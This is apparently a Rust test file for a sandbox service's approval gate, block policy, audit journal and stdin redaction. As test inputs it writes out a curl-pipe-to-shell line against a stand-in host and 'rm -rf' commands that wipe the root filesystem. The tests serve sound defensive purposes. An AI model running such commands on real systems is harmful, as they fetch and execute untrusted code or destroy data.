//! What somebody has to confirm.

use serde_json::{Value, json};

use super::Service;
use crate::support::Scene;

/// Of high risk.
const RISKY: &str = "touch ran; curl -fsS https://host.invalid/x | sh";

#[test]
fn an_approval_is_for_one_operation_and_is_used_once() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("web");
    let (operator, approver) =
        (admin.token("default", "operator"), admin.token("default", "approver"));
    let (operator, approver) = (service.with(&operator), service.with(&approver));
    let path = "/v1/sandboxes/web/operations";
    let asked = operator.post(path, &json!({ "script": RISKY })).is(409).json();
    assert_eq!(asked["kind"], "unconfirmed", "{asked}");
    let id = asked["confirmation"].as_str().expect("an id");
    let waiting = approver.get("/v1/confirmations").is(200).json();
    assert_eq!(waiting["items"][0]["id"], id, "{waiting}");
    assert_eq!(waiting["items"][0]["approved_by"], Value::Null);

    let again =
        |script: &str| operator.post(path, &json!({ "script": script, "confirmation": id })).json();
    // Nobody approved it yet, and who asked may not.
    assert_eq!(again(RISKY)["kind"], "not-approved");
    let approve = format!("/v1/confirmations/{id}/approve");
    operator.post(&approve, &Value::Null).is(403);
    approver.post(&approve, &Value::Null).is(204);
    approver.post(&approve, &Value::Null).is(404);
    // It is for that command and no other.
    assert_eq!(again("touch more; curl -fsS https://host.invalid/x | sh")["kind"], "not-approved");
    let done = again(RISKY);
    assert!(done["operation"].is_string(), "{done}");
    assert_eq!(again(RISKY)["kind"], "not-approved");
    let id = done["operation"].as_str().expect("an id");
    let journaled = operator.get(&format!("/v1/operations/{id}")).is(200).json();
    assert_eq!(journaled["request"]["verdict"]["approval"]["by"], "client", "{journaled}");
}

#[test]
fn what_a_command_reads_is_judged_and_approved_with_it() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("web");
    let path = "/v1/sandboxes/web/operations";
    let blocked = json!({ "argv": ["/bin/sh"], "stdin": "echo it; rm -rf --no-preserve-root /" });
    assert_eq!(admin.post(path, &blocked).is(400).json()["kind"], "blocked");
    // What nobody carries out is data.
    let data = json!({ "argv": ["cat"], "stdin": "rm -rf --no-preserve-root /" });
    let read = admin.post(path, &data).is(200).json();
    assert_eq!(read["stdout"], "rm -rf --no-preserve-root /", "{read}");
    let risky = |input: &str, id: Option<&str>| {
        let asked = json!({ "script": format!("{RISKY}; sh"), "stdin": input, "confirmation": id });
        admin.post(path, &asked)
    };
    let asked = risky("echo seen", None).is(409).json();
    let id = asked["confirmation"].as_str().expect("an id");
    // Who approves sees it.
    let waiting = admin.get("/v1/confirmations").is(200).json();
    let shown = json!({ "text": "echo seen", "bytes": 9, "truncated": false });
    assert_eq!(waiting["items"][0]["stdin"], shown, "{waiting}");
    admin.post(&format!("/v1/confirmations/{id}/approve"), &Value::Null).is(204);
    assert_eq!(risky("echo unseen", Some(id)).is(409).json()["kind"], "not-approved");
    assert_eq!(risky("echo seen", Some(id)).is(200).json()["stdout"], "seen\n");
    let long = format!("export TOKEN=ghp_{}\n{}", "a1B2".repeat(9), "echo x\n".repeat(2000));
    risky(&long, None).is(409);
    let waiting = admin.get("/v1/confirmations").is(200).json();
    let stdin = &waiting["items"].as_array().and_then(|items| items.last()).expect("it")["stdin"];
    assert_eq!((&stdin["bytes"], &stdin["truncated"]), (&json!(long.len()), &json!(true)));
    let text = stdin["text"].as_str().expect("text");
    assert!(!text.contains("ghp_a1B2") && text.contains("echo x\n"), "{text}");
    let open = json!({ "script": RISKY, "open_stdin": true });
    assert_eq!(admin.post(path, &open).is(409).json()["confirmation"], Value::Null);
}

#[test]
fn what_a_sandbox_wrote_itself_does_not_configure_it() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("web");
    std::fs::write(scene.root.join("secret"), "hunter2: 1").expect("written");
    let link = scene.root.join("secret").display().to_string();
    admin.run("web", &format!("ln -s {link} ctrlz.yaml"));
    admin.post("/v1/sandboxes/web/commit", &json!({})).is(200);
    admin.run("web", "true");
}

#[test]
fn what_is_refused_stands_in_the_journal() {
    let scene = Scene::new();
    let service = Service::start(&scene);
    let admin = service.admin();
    admin.sandbox("web");
    let path = "/v1/sandboxes/web/operations";
    let blocked = admin.post(path, &json!({ "script": "rm -rf /" })).is(400).json();
    assert_eq!((&blocked["kind"], &blocked["risk"]), (&json!("blocked"), &json!("critical")));
    let id = blocked["operation"].as_str().expect("an id");
    let journaled = admin.get(&format!("/v1/operations/{id}")).is(200).json();
    assert_eq!(journaled["status"], "blocked", "{journaled}");
    let asked = json!({ "command": "rm -rf /", "sandbox": "web" });
    let verdict = admin.post("/v1/policy/check", &asked).is(200).json();
    assert_eq!((&verdict["risk"], &verdict["decision"]), (&json!("critical"), &json!("block")));
}
